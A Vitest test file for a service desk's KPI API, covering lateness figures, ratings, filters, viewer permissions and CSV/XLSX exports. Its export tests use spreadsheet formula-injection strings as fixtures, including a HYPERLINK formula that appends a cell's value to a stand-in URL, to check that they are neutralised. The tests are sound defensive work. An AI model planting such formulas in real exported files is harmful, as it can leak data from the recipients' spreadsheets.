// Figures over HTTP, of orders that went through the desk: lateness that stays, viewers kept apart, files that are safe.
import { parse } from 'csv-parse/sync'
import { readXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { defuse } from '../../src/platform/spreadsheets.ts'
import { rollupEvents } from '../../src/kpi/rollup.ts'
import { openSession } from '../../src/orgs/sign-in.ts'
import { sessionCookie } from '../../src/orgs/tokens.ts'
import { statement } from '../../src/platform/db.ts'
import { plusDays } from '../../src/platform/clock.ts'
import { runBatch } from '../../src/platform/outbox.ts'
import { openDesk, type Desk } from '../matters/desk.ts'

let desk: Desk
beforeAll(async () => {
  desk = await openDesk()
})
afterAll(() => desk.close())

interface Figure {
  metric: string
  numerator: number
  denominator: number | null
  text: string
  list: string
  group: { key: string; label: string } | null
}

const YEAR = 'from=2020-01-01&to=2020-12-31'
type Who = Parameters<Desk['call']>[0]

async function figures(who: Who, query = ''): Promise<Figure[]> {
  const { status, body } = await desk.call(who, 'GET', `/api/kpi?${YEAR}${query}`)
  expect([status, body.code]).toEqual([200, undefined])
  return body['figures'] as Figure[]
}

async function one(who: Who, metric: string, query = ''): Promise<Figure> {
  const [figure] = await figures(who, `&metrics=${metric}${query}`)
  if (figure === undefined) throw new Error('no figure')
  return figure
}

async function listed(who: Who, figure: Figure): Promise<string[]> {
  const { status, body } = await desk.call(who, 'GET', `${figure.list}&limit=100`)
  expect([status, body.code]).toEqual([200, undefined])
  const items = body['items'] as { id: string }[]
  expect(body['total']).toBe(items.length)
  expect(figure.numerator).toBe(items.length)
  return items.map(({ id }) => id)
}

/** An answer that need not be JSON. */
async function raw(who: { id: string }, url: string) {
  const { config, deps, servers } = desk
  const { token } = await deps.db.transaction(async (tx) =>
    openSession(tx, config, who.id, { address: '10.8.0.1', userAgent: 'test' }),
  )
  const cookie = sessionCookie(config, token).split(';')[0] ?? ''
  const app = servers[0]?.app
  if (app === undefined) throw new Error('no server')
  return app.inject({ method: 'GET', url, remoteAddress: '10.8.0.1', headers: { cookie, 'x-banjian': '1' } })
}

const reply = () => ({ ...desk.answer, contactedAt: desk.clock.now() })
async function dispatched(given: Record<string, unknown> = {}): Promise<string> {
  const { id } = await desk.register(given)
  await desk.does('dispatcher', id, 'dispatch', { leadUnitId: desk.township })
  return id
}

describe('a late leg', () => {
  it('stays in the figures of its unit and of the office, whoever ends the matter and however', async () => {
    const moved = await dispatched()
    const merged = await dispatched()
    await desk.does('liaison', moved, 'sign')
    desk.clock.forward({ days: 20 })
    await desk.does('dispatcher', moved, 'redispatch', { leadUnitId: desk.other, reason: '职责调整' })
    const target = await dispatched()
    await desk.does('dispatcher', merged, 'merge', { intoId: target, reason: '同一诉求人同一事项' })
    await desk.does('otherLiaison', moved, 'sign')
    await desk.does('otherLiaison', moved, 'reply', reply())
    await desk.does('reviewer', moved, 'approve')

    const total = await one('supervisor', 'M07')
    expect(await listed('supervisor', total)).toEqual(expect.arrayContaining([moved, merged]))
    const ofTownship = await one('supervisor', 'M07', `&unit=${desk.township}`)
    expect(await listed('supervisor', ofTownship)).toEqual(expect.arrayContaining([moved, merged]))
    // The unit that took over answered in time: it is charged with nothing.
    expect((await one('supervisor', 'M07', `&unit=${desk.other}`)).numerator).toBe(0)
    expect((await one('liaison', 'M07')).numerator).toBe(ofTownship.numerator)
    const accepted = await one('supervisor', 'M01')
    expect(await listed('supervisor', accepted)).not.toContain(merged)
    expect((await one('supervisor', 'M01a')).numerator).toBe(accepted.numerator + 1)
    const byUnit = await figures('supervisor', '&metrics=M07&groupBy=unit')
    const of = (unit: string) => byUnit.find((f) => f.group?.key === unit)?.numerator
    expect([of(desk.township), of(desk.other)]).toEqual([ofTownship.numerator, 0])
  })

  it('is the office’s own where a superior’s deadline passed while nobody else held the order', async () => {
    const inDays = (days: number) => `${plusDays(desk.clock.now().slice(0, 10), days)}T18:00:00.000+08:00`
    const upper = (days: number) => ({ source: 'upper', upstreamDueAt: inDays(days) })
    const { id: waiting } = await desk.register(upper(2))
    const { id: answered } = await desk.register(upper(2))
    const returned = await dispatched(upper(3))
    const held = await dispatched(upper(2))
    const replied = await dispatched(upper(3))
    await desk.does('liaison', returned, 'ask-return', { reason: '不属于本单位职责' })
    await desk.does('dispatcher', returned, 'grant-return', {})
    await desk.does('liaison', replied, 'sign')
    await desk.does('liaison', replied, 'reply', reply())
    desk.clock.forward({ days: 5 })
    await desk.does('dispatcher', waiting, 'dispatch', { leadUnitId: desk.township, coUnitIds: [desk.other] })
    await desk.does('dispatcher', returned, 'dispatch', { leadUnitId: desk.township })
    await desk.does('dispatcher', held, 'redispatch', { leadUnitId: desk.other, reason: '职责调整' })
    await desk.does('liaison', waiting, 'sign')
    await desk.does('liaison', waiting, 'reply', reply())
    await desk.does('reviewer', waiting, 'approve')
    await desk.does('reviewer', replied, 'approve')
    const { approvedBy: _, ...direct } = reply()
    await desk.does('dispatcher', answered, 'direct-reply', direct)

    // Entered only after it had passed, and dispatched in the same breath.
    const { id: entered } = await desk.register({
      ...{ ...upper(-1), receivedAt: inDays(-4), dispatch: { leadUnitId: desk.township } },
    })

    const ofOffice = await listed('supervisor', await one('supervisor', 'M07', `&unit=${desk.officeUnit}`))
    expect(ofOffice.toSorted()).toEqual([waiting, returned, entered].toSorted())
    const ofTownship = await listed('supervisor', await one('supervisor', 'M07', `&unit=${desk.township}`))
    expect(ofTownship).toContain(held)
    expect(ofTownship).not.toEqual(expect.arrayContaining([waiting]))
    const all = await listed('supervisor', await one('supervisor', 'M07'))
    expect(all).toEqual(expect.arrayContaining([waiting, returned, held]))
    expect(await desk.row(waiting)).toMatchObject({ firstOnTime: false })
    expect(await desk.row(answered)).toMatchObject({ firstOnTime: false })
    expect(await desk.row(replied)).toMatchObject({ firstOnTime: true, lateFrom: null })
    // The office signs for nothing, and what it let pass does not count as the unit's promise.
    const [office, unit] = await desk.legs(waiting)
    expect(office).toMatchObject({ kind: 'route', unitId: desk.officeUnit, signLateFrom: null })
    expect([unit?.kind, unit?.lateFrom]).toEqual(['dispatch', null])
    const signed = await one('supervisor', 'M04', `&unit=${desk.officeUnit}`)
    expect(signed.denominator).toBe(0)
  })

  it('counts the same after the rollup was worked off', async () => {
    const before = await figures('supervisor', '&groupBy=unit')
    const waiting = await statement<{ id: string }>(
      'test.waiting',
      `select event_id as id from outbox where job = 'rollup'`,
    )(desk.deps.db)
    expect(waiting.length).toBeGreaterThan(0)
    await runBatch(
      desk.deps,
      'rollup',
      waiting.map(({ id }) => id),
      rollupEvents,
    )
    expect(await figures('supervisor', '&groupBy=unit')).toEqual(before)
  })
})

describe('a dissatisfied rating', () => {
  const answered = async (id: string) => {
    await desk.does('liaison', id, 'sign')
    await desk.does('liaison', id, 'reply', reply())
    await desk.does('reviewer', id, 'approve')
  }
  const redone = async (category: string) => {
    const id = await dispatched({ category })
    await answered(id)
    await desk.does('callback', id, 'call-back', {
      result: 'reached',
      rating: 'dissatisfied',
      resolved: false,
    })
    const at = desk.clock.now()
    desk.clock.forward({ hours: 1 })
    await desk.does('reviewer', id, 'redo', { reason: '诉求人不满意' })
    await answered(id)
    return { id, at: `&asOf=${encodeURIComponent(at)}` }
  }
  const counts = async (query: string) => {
    const found = await figures('supervisor', `&metrics=M10,M10r,M12,M08${query}`)
    for (const figure of found) await listed('supervisor', figure)
    return Object.fromEntries(found.map((f) => [f.metric, [f.numerator, f.denominator]]))
  }
  const once = { M08: [1, 1], M10: [0, 1], M10r: [0, 1], M12: [0, 1] }

  it('is not erased by a later call that is refused', async () => {
    const { id, at } = await redone('praise')
    await desk.does('callback', id, 'call-back', { result: 'refused' })
    expect(await counts('&category=praise')).toEqual(once)
    await desk.does('callback', id, 'close')
    expect(await counts('&category=praise')).toEqual(once)
    expect(await counts(`&category=praise${at}`)).toEqual(once)
    expect(await desk.row(id)).toMatchObject({ rating: 'dissatisfied', state: 'closed' })
  })

  it('still counts as of its time when the caller is satisfied after the redo', async () => {
    const { id, at } = await redone('suggest')
    await desk.does('callback', id, 'call-back', { result: 'reached', rating: 'satisfied', resolved: true })
    expect(await counts('&category=suggest')).toEqual({ M08: [1, 1], M10: [1, 1], M10r: [1, 1], M12: [1, 1] })
    expect(await counts(`&category=suggest${at}`)).toEqual(once)
    const [ofUnit] = await figures('supervisor', `&metrics=M10&category=suggest&unit=${desk.township}${at}`)
    expect([ofUnit?.numerator, ofUnit?.denominator]).toEqual([0, 1])
  })
})

describe('the filters', () => {
  it('are known words, and none that is misspelt answers with nothing', async () => {
    for (const [field, value] of [
      ['category', 'complaint'],
      ['topic', 'nope'],
      ['source', 'garbage'],
      ['exact', 'yes'],
    ] as const) {
      for (const url of [
        `/api/kpi?${YEAR}`,
        `/api/kpi/matters?metric=M01&${YEAR}`,
        `/api/kpi/board?${YEAR}`,
      ]) {
        const { status, body } = await desk.call('supervisor', 'GET', `${url}&${field}=${value}`)
        expect([field, status, (body['errors'] as { pointer: string }[] | undefined)?.[0]?.pointer]).toEqual([
          field,
          422,
          `/query/${field}`,
        ])
      }
    }
    expect(
      await figures('supervisor', '&category=complain&topic=epidemic&source=counter&exact=true'),
    ).not.toEqual([])
  })
})

describe('viewers', () => {
  it('of a unit see figures of their own units only; other units do not exist for them', async () => {
    await dispatched()
    const own = await figures('liaison')
    const asked = await figures('supervisor', `&unit=${desk.township}`)
    expect(own.map((f) => [f.metric, f.numerator, f.denominator])).toEqual(
      asked.map((f) => [f.metric, f.numerator, f.denominator]),
    )
    for (const query of [
      `unit=${desk.other}`,
      `under=${desk.other}`,
      `unit=none`,
      `unit=${desk.township},${desk.other}`,
    ]) {
      for (const url of [`/api/kpi?${YEAR}&${query}`, `/api/kpi/matters?metric=M01&${YEAR}&${query}`]) {
        const { status, body } = await desk.call('liaison', 'GET', url)
        expect([status, body.code]).toEqual([404, 'unit/not-found'])
      }
    }
    const nobody = '00000000-0000-4000-8000-000000000009'
    expect((await desk.call('supervisor', 'GET', `/api/kpi?${YEAR}&unit=${nobody}`)).body.code).toBe(
      'unit/not-found',
    )
  })

  it('do not count what accuses their own unit, in figures and lists alike', async () => {
    const id = await dispatched()
    const before = await one('liaison', 'M01')
    expect(await listed('liaison', before)).toContain(id)
    await statement('test.accuse', 'update matters set accused_unit_ids = array[$2::uuid] where id = $1')(
      desk.deps.db,
      [id, desk.township],
    )
    const after = await one('liaison', 'M01')
    expect(after.numerator).toBe(before.numerator - 1)
    expect(await listed('liaison', after)).not.toContain(id)
    expect(await listed('supervisor', await one('supervisor', 'M01'))).toContain(id)
  })

  it('need the permission to read, and another to take figures away', async () => {
    const refused = async (who: { id: string }, url: string) => (await raw(who, url)).statusCode
    const { liaison, supervisor } = desk.staff
    const admin = await desk.account(['audit-admin'], { unitId: desk.officeUnit })
    expect(await refused(admin, `/api/kpi?${YEAR}`)).toBe(403)
    expect(await refused(admin, `/api/kpi/metrics`)).toBe(403)
    expect(await refused(liaison, `/api/kpi.csv?${YEAR}`)).toBe(403)
    expect(await refused(liaison, `/api/kpi/matters.xlsx?metric=M01&${YEAR}`)).toBe(403)
    expect(await refused(supervisor, `/api/kpi.csv?${YEAR}`)).toBe(200)
  })
})

describe('questions that make no sense are refused with the field that is wrong', () => {
  it.each([
    [`from=2020-12-31&to=2020-01-01`, '/query/to'],
    [`${YEAR}&asOf=2031-01-01T00:00:00%2B08:00`, '/query/asOf'],
    [`${YEAR}&metrics=M99`, '/query/metrics'],
    [`${YEAR}&groupBy=weather`, '/query/groupBy'],
    [`from=2020-02-30&to=2020-12-31`, '/query/from'],
    [`${YEAR}&unit=nobody`, '/query/unit/0'],
  ])('%s', async (query, pointer) => {
    const { status, body } = await desk.call('supervisor', 'GET', `/api/kpi?${query}`)
    expect(status).toBe(422)
    expect(body['errors']).toContainEqual(expect.objectContaining({ pointer }))
  })

  it('a count has no denominator, a strange cursor no page', async () => {
    const ask = (query: string) => desk.call('supervisor', 'GET', `/api/kpi/matters?${YEAR}&${query}`)
    expect((await ask('metric=M01&part=denominator')).body['errors']).toContainEqual(
      expect.objectContaining({ code: 'kpi/is-a-count' }),
    )
    expect((await ask('metric=M01&cursor=abc')).status).toBe(422)
    const odd = Buffer.from(JSON.stringify([1, '2020-99-99', 'x'])).toString('base64url')
    expect((await ask(`metric=M01&cursor=${odd}`)).status).toBe(422)
  })
})

it('the catalogue tells every formula in words', async () => {
  const { status, body } = await desk.call('liaison', 'GET', '/api/kpi/metrics')
  expect(status).toBe(200)
  const items = body['items'] as { id: string; formula: object; settings: object }[]
  expect(items.find(({ id }) => id === 'M10')).toMatchObject({
    formula: { numerator: '甄别后满意或基本满意', denominator: '甄别后有效评价' },
    settings: { countBasic: true, unratedAs: 'exclude' },
  })
})

describe('files', () => {
  const evil = ['=1+1', '+1', '-1', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠x', '=HYPERLINK("http://x","y")']
  const exported = statement<{ canon: string }>(
    'test.exported',
    `select canon from events where type in ('kpi.exported', 'kpi.list-exported') and actor_id = $1 order by seq`,
  )

  async function download(url: string): Promise<Buffer> {
    const response = await raw(desk.staff.supervisor, url)
    expect(response.statusCode).toBe(200)
    return response.rawPayload
  }

  it('mark everything as text that a spreadsheet would take for a formula', () => {
    for (const text of [...evil, '\tx', '\rx', '\nx']) expect(defuse(text)).toBe(`'${text}`)
    for (const cell of ['普通', '1=1', ' =1', '', 5, -5, null]) expect(defuse(cell)).toBe(cell)
  })

  it('keep a matter of several lines one record, and no line of it begins a formula', async () => {
    const titles = ['两行路灯不亮\n=1+1', '两行路灯不亮\n＝HYPERLINK("http://x"&A1),请点击']
    for (const title of titles) await dispatched({ title })
    const csv = (await download(`/api/kpi/matters.csv?metric=M01&${YEAR}`)).toString('utf8')
    expect(csv).toContain(`,"两行路灯不亮\n'=1+1",`)
    expect(csv).not.toMatch(/[\r\n]"?[=+\-@＝＋－＠]/)
    const rows = parse<Record<string, string>>(csv, { bom: true, columns: true, record_delimiter: '\n' })
    expect(rows.length).toBe((await one('supervisor', 'M01')).numerator)
    for (const title of titles) expect(rows.map((row) => row['标题'])).toContain(title.replace('\n', "\n'"))
  })

  it('tell the number of the city platform beside our own', async () => {
    const { id: known, no } = await desk.register({ externalNo: '5108002020001234' })
    await desk.does('dispatcher', known, 'dispatch', { leadUnitId: desk.township })
    const page = await desk.call('supervisor', 'GET', `/api/kpi/matters?metric=M01&${YEAR}&limit=100`)
    expect(page.body['items']).toContainEqual(
      expect.objectContaining({ id: known, no, externalNo: '5108002020001234' }),
    )
    const matched = parse<Record<string, string>>(
      (await download(`/api/kpi/matters.csv?metric=M01&${YEAR}`)).toString('utf8'),
      { bom: true, columns: true },
    )
    expect(matched.find((row) => row['平台工单号'] === '5108002020001234')?.['办件编号']).toBe(no)
  })

  it('hold the figures and the lists, start with a byte order mark, and are on record', async () => {
    for (const title of evil) await dispatched({ title: `${title}路灯不亮` })
    const cell = (title: string) => `'${title}路灯不亮`

    const csv = (await download(`/api/kpi/matters.csv?metric=M01&${YEAR}`)).toString('utf8')
    expect(csv.startsWith('\ufeff')).toBe(true)
    const rows = parse<Record<string, string>>(csv, { bom: true, columns: true })
    const total = await one('supervisor', 'M01')
    expect(rows.length).toBe(total.numerator)
    const titles = rows.map((row) => row['标题'])
    for (const title of evil) expect(titles).toContain(cell(title))
    expect(Object.values(rows[0] ?? {}).some((value) => /^[=+\-@＝＋－＠]/.test(value))).toBe(false)

    const book = await readXlsx(await download(`/api/kpi/matters.xlsx?metric=M01&${YEAR}`))
    const [header, ...lines] = book.sheets[0]?.rows ?? []
    expect(header?.slice(0, 4)).toEqual(['办件编号', '平台工单号', '标题', '主办单位'])
    expect(lines.length).toBe(total.numerator)
    for (const title of evil) expect(lines.map((line) => line[2])).toContain(cell(title))

    const figureRows = parse<Record<string, string>>(
      (await download(`/api/kpi.csv?${YEAR}&groupBy=unit`)).toString('utf8'),
      { bom: true, columns: true },
    )
    const shown = await figures('supervisor', '&groupBy=unit')
    expect(figureRows.map((row) => [row['指标编号'], row['分子'], row['显示']])).toEqual(
      shown.map((f) => [f.metric, String(f.numerator), f.text]),
    )
    const figureBook = await readXlsx(await download(`/api/kpi.xlsx?${YEAR}`))
    const [, first] = figureBook.sheets[0]?.rows ?? []
    expect(first?.[0]).toBe('M01')
    expect(first?.[8]).toBe(total.numerator)

    const events = await exported(desk.deps.db, [desk.staff.supervisor.id])
    const data = events.map(
      ({ canon }) => JSON.parse(canon) as { id: string; data: { format: string; url: string } },
    )
    expect(data.slice(-4).map(({ data: { format } }) => format)).toEqual(['csv', 'xlsx', 'csv', 'xlsx'])
    expect(rows.every((row) => row['导出编号'] === data.at(-4)?.id)).toBe(true)
  })
})
